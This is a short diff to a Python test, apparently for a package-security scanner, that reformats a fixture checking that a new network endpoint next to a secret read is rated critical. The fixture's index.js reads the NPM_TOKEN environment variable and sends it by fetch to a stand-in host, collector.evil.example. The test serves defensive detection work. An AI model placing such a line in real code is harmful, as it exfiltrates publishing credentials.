@@ -178,7 +178,8 @@ def test_new_endpoint_next_to_secret_read_is_critical(tmp_path: Path) -> None:
     new = _artifact(
         tmp_path / "new",
         {
-            "index.js": "const a = 1;\nconst t = process.env.NPM_TOKEN;\nfetch('https://collector.evil.example/c', t);\n"
+            "index.js": "const a = 1;\nconst t = process.env.NPM_TOKEN;\n"
+            "fetch('https://collector.evil.example/c', t);\n"
         },
     )
     old_p = _profile(old)
